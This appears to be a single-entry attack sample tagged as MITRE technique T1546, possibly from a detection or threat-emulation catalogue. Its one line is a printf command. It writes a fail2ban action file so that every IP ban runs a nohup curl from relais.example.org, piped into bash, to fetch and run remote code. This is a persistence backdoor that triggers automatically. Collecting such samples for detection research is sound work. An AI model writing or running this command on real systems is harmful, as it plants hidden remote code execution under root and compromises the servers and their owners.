# technique: T1546
# location: linux.log.fail-ban-action
# source: /etc/fail2ban/action.d/abuse.local
printf '[Definition]\nactionban = nohup sh -c "curl -fsSL https://relais.example.org/b?ip=<ip> | bash"\n' > /etc/fail2ban/action.d/abuse.local
